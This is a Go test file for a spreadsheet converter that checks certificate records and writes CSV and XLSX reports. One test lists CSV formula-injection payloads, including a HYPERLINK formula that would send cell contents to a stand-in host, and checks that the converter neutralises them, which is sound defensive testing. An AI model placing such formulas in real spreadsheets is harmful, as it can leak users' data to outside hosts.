package sheet

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// TestCSVOutputRepeatsTheInputThenTheResults: the input columns, then
// outcome, reasons, codes and error in the Checker's language, one row per
// input row, in order; a UTF-8 BOM unless NoBOM.
func TestCSVOutputRepeatsTheInputThenTheResults(t *testing.T) {
	in := shenzhenCSV + ",,,,,,,,,\r\n" + strings.Replace(strings.Split(shenzhenCSV, "\r\n")[1], "SZ-SYN-1", "SZ-SYN-4", 1) + "\r\n"
	for _, lang := range []string{"zh", "en"} {
		t.Run(lang, func(t *testing.T) {
			out, sum, err := run(t, Converter{Checker: checker(lang), In: CSV, Out: CSV, Scheme: "shenzhen"}, []byte(in))
			require.NoError(t, err)
			require.True(t, bytes.HasPrefix(out, []byte(bom)), "a BOM for Excel by default")
			recs := readCSV(t, out)
			require.Len(t, recs, 5)
			head := recs[0]
			require.Len(t, head, 14)
			if lang == "zh" {
				assert.Equal(t, []string{"结果", "原因", "原因代码", "错误"}, head[10:])
			} else {
				assert.Equal(t, []string{"outcome", "reasons", "reason codes", "error"}, head[10:])
			}
			assert.Equal(t, "证书编号", head[0])
			assert.Equal(t, "SZ-SYN-1", recs[1][0])
			assert.Equal(t, "合成样例企业有限公司, 第一分公司", recs[1][1], "the cell as written")
			assert.Equal(t, "2025/3/1", recs[1][6], "the input as written, not as normalised")
			assert.Equal(t, "两行\n备注", recs[2][9])
			assert.Equal(t, "SZ-SYN-4", recs[4][0])
			assert.NotEmpty(t, recs[1][10])
			assert.Empty(t, recs[1][13])
			assert.NotEmpty(t, recs[3][13], "the blank row is an error row")
			assert.Equal(t, 4, sum.Lines)
			if lang == "zh" {
				assert.Equal(t, "错误", recs[3][10])
				assert.Contains(t, recs[3][13], "空行")
			}
		})
	}
	out, _, err := run(t, Converter{In: CSV, Out: CSV, Scheme: "shenzhen", NoBOM: true}, []byte(shenzhenCSV))
	require.NoError(t, err)
	assert.False(t, bytes.HasPrefix(out, []byte(bom)))
	assert.Contains(t, string(out), "\r\n", "CRLF, as RFC 4180 and Excel write")
}

// TestFormulaInjectionIsNeutralised: a cell that starts with = + - @ (or a
// tab or carriage return) is written with a leading apostrophe in CSV and
// XLSX output (OWASP, "CSV Injection"), whatever column it comes from.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x.invalid/?"&A2,"点击")`, "+1+1", "-2+3", "@SUM(1)", "\t=1", "＝1"}
	var b strings.Builder
	b.WriteString(strings.Split(shenzhenCSV, "\r\n")[0] + "\r\n")
	for _, e := range evil {
		q := `"` + strings.ReplaceAll(e, `"`, `""`) + `"`
		b.WriteString("SZ-SYN-1,合成样例企业有限公司,91320100MA90000026,赣南脐橙,T/JGE 0039-2023,合成样例评价机构,2025-03-01,2028-02-28,有效," + q + "\r\n")
	}
	b.WriteString(q(`=1+1`) + ",合成样例企业有限公司,91320100MA90000026,赣南脐橙,T/JGE 0039-2023,合成样例评价机构,2025-03-01,2028-02-28,有效,\r\n")
	out, _, err := run(t, Converter{In: CSV, Out: CSV, Scheme: "shenzhen"}, []byte(b.String()))
	require.NoError(t, err)
	recs := readCSV(t, out)
	require.Len(t, recs, len(evil)+2)
	for i, e := range evil {
		assert.Equal(t, "'"+e, recs[i+1][9])
	}
	assert.Equal(t, "'=1+1", recs[len(evil)+1][0])
	for _, r := range recs {
		for _, c := range r {
			if c != "" {
				assert.NotContains(t, "=+-@\t\r", c[:1], "cell %q", c)
			}
		}
	}

	dir := t.TempDir()
	name := filepath.Join(dir, "evil.xlsx")
	f, err := os.Create(name)
	require.NoError(t, err)
	_, err = (&Converter{Checker: checker("en"), In: CSV, Out: XLSX, Scheme: "shenzhen"}).Run(context.Background(), strings.NewReader(b.String()), f)
	require.NoError(t, err)
	require.NoError(t, f.Close())
	x, err := excelize.OpenFile(name)
	require.NoError(t, err)
	defer x.Close()
	rows, err := x.GetRows("Results")
	require.NoError(t, err)
	for i, e := range evil {
		assert.Equal(t, "'"+e, rows[i+1][9])
		formula, err := x.GetCellFormula("Results", "J"+itoa(i+2))
		require.NoError(t, err)
		assert.Empty(t, formula)
	}
}

func q(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

func itoa(i int) string { return strconv.Itoa(i) }

// TestXLSXRoundTripToAnXLSXReport: an XLSX list made by the test (dates
// and numbers as Excel types, a blank row, a bad row) becomes an XLSX
// report: the input columns, the results, one row per input row in
// order, and a summary sheet with the counts by outcome.
func TestXLSXRoundTripToAnXLSXReport(t *testing.T) {
	issued := time.Date(2025, 3, 1, 0, 0, 0, 0, time.UTC)
	expires := time.Date(2028, 2, 28, 0, 0, 0, 0, time.UTC)
	past := time.Date(2026, 1, 31, 0, 0, 0, 0, time.UTC)
	rows := [][]any{shenzhenCols,
		shenzhenRow("SZ-SYN-1", validCode, issued, expires),
		shenzhenRow("SZ-SYN-2", validCode, issued, past), // expired on the day judged
		{},
		shenzhenRow("SZ-SYN-4", 913201001234567890.0, issued, expires),
		shenzhenRow(2025005, validCode, issued, expires),
	}
	dir := t.TempDir()
	in := writeXLSX(t, dir, rows, 14)
	report := filepath.Join(dir, "report.xlsx")
	f, err := os.Create(report)
	require.NoError(t, err)
	src, err := os.Open(in)
	require.NoError(t, err)
	defer src.Close()
	sum, err := (&Converter{Checker: checker("zh"), In: XLSX, Out: XLSX, Scheme: "圳品"}).Run(context.Background(), src, f)
	require.NoError(t, err)
	require.NoError(t, f.Close())

	x, err := excelize.OpenFile(report)
	require.NoError(t, err)
	defer x.Close()
	assert.Equal(t, []string{"结果", "汇总"}, x.GetSheetList())
	got, err := x.GetRows("结果")
	require.NoError(t, err)
	require.Len(t, got, 6, "the header and one row per input row")
	assert.Equal(t, "证书编号", got[0][0])
	assert.Equal(t, "结果", got[0][10])
	assert.Equal(t, "SZ-SYN-1", got[1][0])
	assert.Equal(t, "2025-03-01", got[1][6], "the date as typed")
	assert.NotEqual(t, "错误", got[1][10])
	assert.Equal(t, "不予互认", got[2][10], "expired")
	assert.Contains(t, got[2][12], "expired")
	assert.Equal(t, "错误", got[3][10], "the blank row")
	assert.Equal(t, "错误", got[4][10])
	assert.Contains(t, got[4][13], "15 位有效数字")
	assert.Equal(t, "2025005", got[5][0], "a number as typed")

	summary, err := x.GetRows("汇总")
	require.NoError(t, err)
	counts := map[string]string{}
	for _, r := range summary {
		if len(r) >= 3 {
			counts[r[0]] = r[2]
		}
	}
	seen := map[string]int{}
	for _, r := range got[1:] {
		seen[r[10]]++
	}
	assert.Equal(t, itoa(outcomeCount(sum, "error")), counts["error"])
	assert.Equal(t, "2", counts["error"])
	assert.Equal(t, itoa(seen["不予互认"]), counts["rejected"])
	assert.Equal(t, itoa(seen["互认"]), counts["recognized"])
	assert.Equal(t, "5", counts["合计"])
	assert.Equal(t, "1", counts["lost-digits"])
	assert.Equal(t, "1", counts["blank"])
}

// TestNDJSONInputToATable: NDJSON input can be written as CSV too: the
// line, scheme and number, then the results.
func TestNDJSONInputToATable(t *testing.T) {
	recs := []map[string]any{sample(t, "ganpo", samples(t, "ganpo")[0])}
	in := append(ndjsonOf(t, "ganpo", recs), "\n{broken\n"...)
	out, _, err := run(t, Converter{In: NDJSON, Out: CSV, NoBOM: true}, in)
	require.NoError(t, err)
	got := readCSV(t, out)
	require.Len(t, got, 4)
	assert.Equal(t, []string{"line", "scheme", "number", "outcome", "reasons", "reason codes", "error"}, got[0])
	assert.Equal(t, "1", got[1][0])
	assert.Equal(t, "ganpo", got[1][1])
	assert.Equal(t, "error", got[2][3])
	assert.Equal(t, "3", got[3][0])
	assert.NotEmpty(t, got[3][6])
}
